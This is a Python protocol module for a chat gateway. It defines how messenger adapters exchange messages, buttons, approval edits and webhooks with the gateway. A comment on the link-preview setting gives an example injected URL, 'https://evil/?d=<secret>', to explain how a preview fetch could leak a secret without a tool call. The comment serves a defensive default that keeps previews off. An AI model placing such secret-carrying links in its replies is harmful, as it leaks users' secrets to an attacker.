"""The Channel protocol: what a messenger adapter offers the gateway, and the
shapes that cross between them.

An in-process adapter (Telegram, the test channel, ...) implements `Channel` and is
handed a `ChannelSink` at start: it calls `sink.inbound(...)` for every message it
receives, `sink.status_changed(...)` when it connects or fails, and `sink.action(...)`
when someone presses one of its buttons (capability `buttons`: the approval prompts'
Allow / Deny). External adapters in
any language speak the same shapes over WebSocket in `channel` mode (`channel.inbound`
requests in, `channel.outbound` / `channel.typing` events out).
"""

from __future__ import annotations

from dataclasses import dataclass
from dataclasses import field
from typing import Any
from typing import Literal
from typing import Protocol
from typing import runtime_checkable

PeerKind = Literal["dm", "group", "channel", "thread"]
PEER_KINDS: tuple[str, ...] = ("dm", "group", "channel", "thread")


@dataclass(frozen=True)
class Capabilities:
    chat_types: tuple[str, ...] = ("dm",)
    media: bool = False
    reactions: bool = False
    threads: bool = False
    typing: bool = False
    editing: bool = False
    deletion: bool = False
    qr_login: bool = False
    buttons: bool = False  # renders OutboundMessage.actions and reports presses
    max_text: int = 4000  # replies longer than this are split before sending


# every kind of conversation: for a platform with groups, channels and threads
ALL_CHAT_TYPES = ("dm", "group", "channel", "thread")


@dataclass(frozen=True)
class Peer:
    kind: str
    id: str
    name: str | None = None
    handle: str | None = None
    thread_id: str | None = None

    def to_wire(self) -> dict[str, Any]:
        wire: dict[str, Any] = {"kind": self.kind, "id": self.id}
        for key, value in (
            ("name", self.name),
            ("handle", self.handle),
            ("threadId", self.thread_id),
        ):
            if value is not None:
                wire[key] = value
        return wire

    @classmethod
    def from_wire(cls, data: dict[str, Any]) -> Peer:
        return cls(
            kind=str(data.get("kind") or "dm"),
            id=str(data["id"]),
            name=data.get("name"),
            handle=data.get("handle"),
            thread_id=data.get("threadId"),
        )


@dataclass(frozen=True)
class Sender:
    id: str
    name: str | None = None
    handle: str | None = None


@dataclass(frozen=True)
class Media:
    """An attachment (as `channel.inbound` carries it): inline base64 `data` or a `url`."""

    type: str  # image | audio | video | document
    mime_type: str
    data: str | None = None
    url: str | None = None
    filename: str | None = None
    size: int | None = None
    duration: float | None = None
    transcription: str | None = None


@dataclass(frozen=True)
class InboundMessage:
    """One message an adapter received (`channel.inbound` params)."""

    channel: str
    account_id: str
    peer: Peer
    message_id: str
    text: str
    sender: Sender | None = None
    timestamp: int | None = None
    reply_to_id: str | None = None
    reply_to_text: str | None = None
    reply_to_bot: bool = False  # the message answers one of the bot's own messages
    media: tuple[Media, ...] = ()
    was_mentioned: bool = False
    mentioned_ids: tuple[str, ...] = ()
    location: dict[str, Any] | None = None


@dataclass(frozen=True)
class Action:
    """A button under a sent message. `id` comes back in the ActionEvent when it is
    pressed (at most 64 bytes: Telegram's callback data limit)."""

    id: str
    label: str
    style: Literal["default", "primary", "danger"] = "default"


@dataclass(frozen=True)
class OutboundMessage:
    peer: Peer
    text: str
    reply_to_id: str | None = None
    # buttons under the message; adapters without `capabilities.buttons` ignore them
    # (the text itself says how to answer)
    actions: tuple[Action, ...] = ()
    # let the platform fetch the links in the text and show previews. Off unless the owner
    # turned `channels.<name>.linkPreviews` on: a platform that fetches a link sends what
    # the link carries (an injected `https://evil/?d=<secret>`) with no tool call at all
    link_previews: bool = False


@dataclass(frozen=True)
class MessageEdit:
    """New text for a message the bot sent with buttons (an approval answered or
    expired): the buttons go, `link_previews` as in `OutboundMessage`."""

    account_id: str
    peer: Peer
    message_id: str
    text: str
    link_previews: bool = False


@dataclass(frozen=True)
class ActionEvent:
    """Someone pressed a button (`action_id` is the Action's id) on the bot's message
    `message_id` in `peer`."""

    channel: str
    account_id: str
    peer: Peer
    sender: Sender
    action_id: str
    message_id: str | None = None


@dataclass
class AccountStatus:
    """One account's status as `channels.list` shows it (docs/protocol.md#methods)."""

    account_id: str
    connected: bool = False
    authenticated: bool = False
    mode: str | None = None
    last_activity: int | None = None
    error: str | None = None
    extra: dict[str, Any] = field(default_factory=dict)

    def to_wire(self) -> dict[str, Any]:
        wire: dict[str, Any] = {
            "accountId": self.account_id,
            "connected": self.connected,
            "authenticated": self.authenticated,
        }
        optional = {"mode": self.mode, "lastActivity": self.last_activity, "error": self.error}
        wire.update({k: v for k, v in optional.items() if v is not None})
        if self.extra:
            wire["extra"] = self.extra
        return wire


@dataclass(frozen=True)
class LoginResult:
    message: str
    qr_data_url: str | None = None


class ChannelSink(Protocol):
    """What an adapter calls back into (implemented by the channel manager)."""

    async def inbound(self, message: InboundMessage) -> None:
        """Hand over a received message; returns once it is durably stored."""
        ...

    def status_changed(self, channel: str, status: AccountStatus) -> None: ...

    async def action(self, event: ActionEvent) -> str | None:
        """A button was pressed; returns a short answer for the presser (None: the press
        meant nothing to us). The adapter acknowledges the press on its platform with it."""
        ...


class Channel(Protocol):
    """A messenger adapter. `start` begins receiving for one account; `send` returns the
    platform's message id (or None). Failures raise gsv errors with a clear message."""

    name: str
    capabilities: Capabilities

    async def start(self, account_id: str, config: dict[str, Any], sink: ChannelSink) -> None: ...

    async def stop(self, account_id: str) -> None: ...

    def status(self, account_id: str | None = None) -> list[AccountStatus]: ...

    async def send(self, account_id: str, message: OutboundMessage) -> str | None: ...

    async def set_typing(self, account_id: str, peer: Peer, typing: bool) -> None: ...

    async def login(self, account_id: str, force: bool) -> LoginResult: ...

    async def logout(self, account_id: str) -> None: ...


@runtime_checkable
class ButtonChannel(Protocol):
    """What an adapter with `capabilities.buttons` adds: settling a message it sent with
    buttons (an approval answered or expired)."""

    async def edit(self, edit: MessageEdit) -> None:
        """Replace the text of the bot's message `edit.message_id` and remove its
        buttons."""
        ...


@dataclass(frozen=True)
class HttpRequest:
    """An HTTP request the gateway's front door hands to a channel (webhooks)."""

    method: str
    path: str
    query: dict[str, list[str]]
    headers: dict[str, str]  # lower-case names
    body: bytes


@dataclass(frozen=True)
class HttpResponse:
    status: int
    body: bytes = b""
    content_type: str = "text/plain; charset=utf-8"


class WebhookChannel(Protocol):
    """A channel that receives platform callbacks at `/channels/{name}/webhook` on the
    gateway's own port (e.g. WhatsApp Cloud API). Optional: adapters that poll or keep a
    socket open do not implement it."""

    async def handle_webhook(self, request: HttpRequest) -> HttpResponse: ...
